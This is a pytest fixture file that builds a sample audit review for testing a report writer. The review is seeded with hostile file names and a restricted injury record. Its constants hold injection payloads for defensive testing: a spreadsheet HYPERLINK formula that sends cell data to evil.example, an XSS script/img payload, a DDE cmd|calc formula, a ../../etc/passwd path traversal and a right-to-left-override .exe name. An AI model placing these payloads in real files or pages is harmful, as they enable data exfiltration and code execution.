"""A small review with everything a report must survive: hostile names, restricted records, every status and state."""

import os
import shutil
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import UTC, date, datetime
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from PIL import Image, ImageDraw

from classifiers.model import Classification
from pipeline.errors import ExceptionClass
from pipeline.model import (
    Asked,
    Box,
    Change,
    Check,
    Citation,
    Document,
    Evidence,
    EvidenceDate,
    ExceptionRow,
    Fact,
    Item,
    Look,
    Missing,
    Page,
    PageFailure,
    PageTotals,
    Profile,
    QuestionCoverage,
    ReadDocument,
    Reconciliation,
    Review,
    Role,
    RunInfo,
    Site,
    SiteCoverage,
    SiteVisit,
    TerminalState,
    TextOrigin,
    Understanding,
    VisitPlan,
    Wanted,
    Window,
)
from pipeline.report.formats import write_report
from rules.model import Element, Instrument, Question, Rule, RulePack, Sampling

SECRET = "Zebulon Quartermain cut his left hand on the band saw"
SECRET_NAME = "Zebulon Quartermain"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
HOSTILE_NAMES = (
    FORMULA,
    MARKUP,
    "invoice\u202efdp.exe",
    "two\nlines.pdf",
    "a" * 250,
    "\x1b[31mred\x1b[0m\x07.pdf",
    "zero\u200bwidth\ufeff.pdf",
    "bad\udce9byte.pdf",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "../../etc/passwd",
    "{{ 7 * 7 }}{% raw %}",
    "résumé accentué.pdf",
)
NOW = datetime(2026, 3, 2, 9, 30, tzinfo=UTC)


def sha(number: int) -> str:
    return sha256(str(number).encode()).hexdigest()


def _question(number: str, element: str, method: str = "documentation", **more: object) -> Question:
    return Question.model_validate(
        {"id": number, "element": element, "canonical": f"M{number}", "requirement": f"Requirement {number} {MARKUP}",
         "methods": (method,) if method == "documentation" else (method, "documentation"), "primary_method": method,
         "source": "test", "confidence": "inferred", **more}
    )  # fmt: skip


def pack() -> RulePack:
    questions = (
        _question("1.1", "1"), _question("1.2", "1"), _question("1.3", "1", "interview", prepares="Minutes"),
        _question("2.1", "2"), _question("2.2", "2"), _question("2.3", "2"), _question("2.10", "2"),
        _question("3.1", "3", "observation"),
    )  # fmt: skip
    rule = Rule(id="r-2.1", question="2.1", nature="record", types=("workplace_inspection",),
                sampling=Sampling(kind="per_period", cadence="monthly", per_site=True), ask="Monthly inspections",
                holder="Site supervisor", source="test", confidence="inferred")  # fmt: skip
    instrument = Instrument(
        id="test-pack", issuer="Test Partner", title="Test audit", edition="2026", stream="cor", depth="questions",
        jurisdiction="AB", source="made for the test", confidence="inferred",
        elements=(Element(id="1", title="Management <b>commitment</b>"), Element(id="2", title="Inspections"),
                  Element(id="3", title="On site only")),
    )  # fmt: skip
    return RulePack(instrument=instrument, questions=questions, rules=(rule,))


def read_document(number: int, name: str, quote: str, restricted: bool = False) -> ReadDocument:
    place = Citation(sha(number), 1, quote, Box(0.1, 0.2, 0.6, 0.24))
    understanding = Understanding(
        document=Document(sha(number), 1, 1, 1.0),
        classification=Classification("injury_record" if restricted else "workplace_inspection",
                                      "incident" if restricted else "inspection", 0.934, None, (quote,)),
        language="eng",
        evidence_date=EvidenceDate(date(2026, 1, 5), "performed", "read", (), place),
        signed="drawn", blank_form=False, site="North\u200b yard", company=None, version_group=f"v{number}",
        restricted=restricted,
        facts=(Fact("person", SECRET_NAME, place, "people", "worker"), Fact("action", SECRET, place, "actions"))
        if restricted else (),
    )  # fmt: skip
    page = Page(1, quote, TextOrigin.OCR, "no_text_layer", 91.234)
    return ReadDocument(understanding, (page,), name)


def _evidence(question: str, read: ReadDocument, quote: str, fit: str = "full", **more: object) -> Evidence:
    document = read.understanding.document
    place = Citation(document.source_id, 1, quote, Box(0.1, 0.2, 0.6, 0.24))
    return replace(Evidence(question, f"r-{question}", document.id, "full", (place,), (quote,)), fit=fit, **more)


def _row(question: str, status: str, **more: object) -> QuestionCoverage:
    empty = QuestionCoverage(question, "not_located", None, None, None, 0, (), (), ())
    return replace(empty, status=status, **more)


def _coverage(documents: tuple[ReadDocument, ...], secret: ReadDocument) -> tuple[QuestionCoverage, ...]:
    gone = (Missing("period", "2025-11"), Missing("period", "2026-02"), Missing("period", "2026-03", due=False))
    hostile = tuple(_evidence("2.1", read, name) for read, name in zip(documents, HOSTILE_NAMES, strict=True))
    near = _evidence("2.2", secret, SECRET, "partial", missing=(Missing("person", SECRET_NAME),))
    check = Check("dates_differ", f"Report of {SECRET_NAME} is late", near.citations + hostile[0].citations)
    south = SiteCoverage("South <i>yard</i>", "partial", 9, 12, 3, gone)
    return (
        _row("1.1", "candidate", located=1, expected=1, expected_basis="instrument",
             evidence=(_evidence("1.1", documents[12], "plain quote"),)),
        _row("1.2", "not_located", located=0, expected=1, searched=(f"13 documents {MARKUP}",),
             could_hide=(HOSTILE_NAMES[2],), ask=FORMULA),
        _row("1.3", "outside_document_review"),
        _row("2.1", "partial", located=9, expected=12, expected_basis="pack_default", undated=3, missing=gone,
             sites=(south,), evidence=hostile, ask="Monthly inspections"),
        _row("2.2", "partial", located=1, missing=(Missing("action", SECRET),), evidence=(near,), checks=(check,)),
        _row("2.3", "unreadable_source", located=0, could_hide=("HR.zip › locked.pdf",), ask="The locked file"),
        _row("2.10", "not_applicable"),
        _row("3.1", "outside_document_review"),
    )  # fmt: skip


def _plan(documents: tuple[ReadDocument, ...], secret: ReadDocument) -> VisitPlan:
    """Hostile texts and a restricted finding where the planner would put findings."""
    seen = tuple(
        Look(read.shown_path, None, Citation(read.understanding.document.source_id, 1, "x")) for read in documents
    )
    told = Look(SECRET, "2026-01-09", Citation(secret.understanding.document.source_id, 1, SECRET))
    observe = (Asked("3.1", f"Requirement 3.1 {MARKUP}", None),)
    unknown = Wanted(None, 2, note="the table does not say for this number: ask the partner")
    north = SiteVisit("North yard", True, observe, (*seen, told))
    return VisitPlan(
        interviews=Wanted(17, 40, "Published <table>", "its & source", "overlap"),
        roles=(Role("manager", 2), Role("worker", None)),
        ask=(Asked("1.3", "Requirement", "Minutes"),),
        visits=unknown,
        sites=(north, SiteVisit("South <i>yard</i>", False, observe, ())),
        note=None,
    )


def build_review() -> Review:
    documents = tuple(read_document(n, name, name) for n, name in enumerate(HOSTILE_NAMES, start=1))
    secret = read_document(50, "HR/first aid.pdf", SECRET, restricted=True)
    every = (*documents, secret)
    items = [Item((read.shown_path,), read.understanding.document.source_id, n, 100, NOW, media_type="application/pdf",
                  state=TerminalState.PROCESSED) for n, read in enumerate(every, start=1)]  # fmt: skip
    items += [
        Item(("copy.pdf",), sha(1), 1, 100, NOW, state=TerminalState.DUPLICATE, duplicate_of=HOSTILE_NAMES[0]),
        Item(("HR.zip",), sha(60), 60, 10, NOW, state=TerminalState.CONTAINER),
        Item((".DS_Store",), sha(61), 61, 10, NOW, state=TerminalState.EXCLUDED, excluded_by="macos_litter"),
        Item(("HR.zip", MARKUP), sha(62), 62, 9, NOW, state=TerminalState.EXCEPTION,
             exception=ExceptionClass.PASSWORD_REQUIRED),
    ]  # fmt: skip
    exceptions = (
        ExceptionRow(ExceptionClass.PASSWORD_REQUIRED, "extract", ("HR.zip", MARKUP), sha(62), None,
                     "Opens only with a password", FORMULA, True, ("2.3", "9.9")),
        ExceptionRow(ExceptionClass.NO_TEXT, "extract", (FORMULA,), sha(1), 2, "+no text found", "-scan again", False),
    )  # fmt: skip
    count = len(every)
    return Review(
        profile=Profile(f"Acme {MARKUP}", (), (Site("North yard"), Site("South <i>yard</i>")), 40, date(2026, 3, 1),
                        Window(date(2025, 3, 1), date(2026, 3, 1)), date(2026, 3, 2)),
        purpose="triage", language="en", pack=pack(),
        run=RunInfo("run-7", NOW, NOW, (("cor-evidence", "0.1.0"), ("tesseract", "5.5"))),
        reconciliation=Reconciliation(count + 4, count, 1, 1, 1, 1, PageTotals(count + 1, 0, count, 0, 1)),
        items=tuple(items),
        pages={read.understanding.document.source_id: read.pages for read in every},
        unread_pages={sha(1): (PageFailure(2, ExceptionClass.NO_TEXT, "no text"),)},
        documents=every, coverage=_coverage(documents, secret), exceptions=exceptions, first_review=NOW,
        plan=_plan(documents, secret),
        changes=(Change("question", "2.1", "not_located", "partial"),),
    )  # fmt: skip


@dataclass(frozen=True)
class Written:
    """A review and the folder its report was written to."""

    review: Review
    folder: Path

    def text(self, name: str) -> str:
        return (self.folder / name).read_text(encoding="utf-8")


@dataclass(frozen=True)
class Hostile:
    """The dangerous texts that stand in the review."""

    names: tuple[str, ...] = HOSTILE_NAMES
    formula: str = FORMULA
    markup: str = MARKUP
    secret: str = SECRET
    secret_name: str = SECRET_NAME


@pytest.fixture(scope="session")
def hostile() -> Hostile:
    return Hostile()


@pytest.fixture(scope="session")
def review() -> Review:
    return build_review()


@pytest.fixture(scope="session")
def pictures(tmp_path_factory: pytest.TempPathFactory) -> dict[tuple[str, int], Path]:
    folder = tmp_path_factory.mktemp("pictures")
    made = {}
    for number in (1, 2, 50, 77):
        page = Image.new("RGB", (850, 1100), "white")
        ImageDraw.Draw(page).text((90, 225), f"page of content {number}", fill="black")
        path = folder / f"{number}.jpg"
        page.save(path, "JPEG")
        made[(sha(number), 1)] = path
    return made


@pytest.fixture(scope="session")
def written(review: Review, pictures: dict[tuple[str, int], Path], tmp_path_factory: pytest.TempPathFactory) -> Written:
    folder = tmp_path_factory.mktemp("engagement") / "report"
    write_report(review, folder, pictures)
    return Written(review, folder)


@pytest.fixture(scope="session")
def write(tmp_path_factory: pytest.TempPathFactory) -> Callable[[Review], Written]:
    def make(review: Review) -> Written:
        folder = tmp_path_factory.mktemp("other") / "report"
        write_report(review, folder, {})
        return Written(review, folder)

    return make


@pytest.fixture(scope="session")
def browser() -> Iterator[Any]:
    chromium = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    driver = shutil.which("chromedriver")
    if chromium is None or driver is None:
        pytest.skip("chromium and chromedriver are not installed: install both to run the browser tests")
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    options = webdriver.ChromeOptions()
    options.binary_location = chromium
    for argument in ("--headless=new", "--disable-gpu", "--window-size=1366,900", "--disable-dev-shm-usage"):
        options.add_argument(argument)
    if os.geteuid() == 0:
        options.add_argument("--no-sandbox")  # Chromium refuses to start as root otherwise
    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    opened = webdriver.Chrome(options=options, service=Service(driver))
    try:
        yield opened
    finally:
        opened.quit()
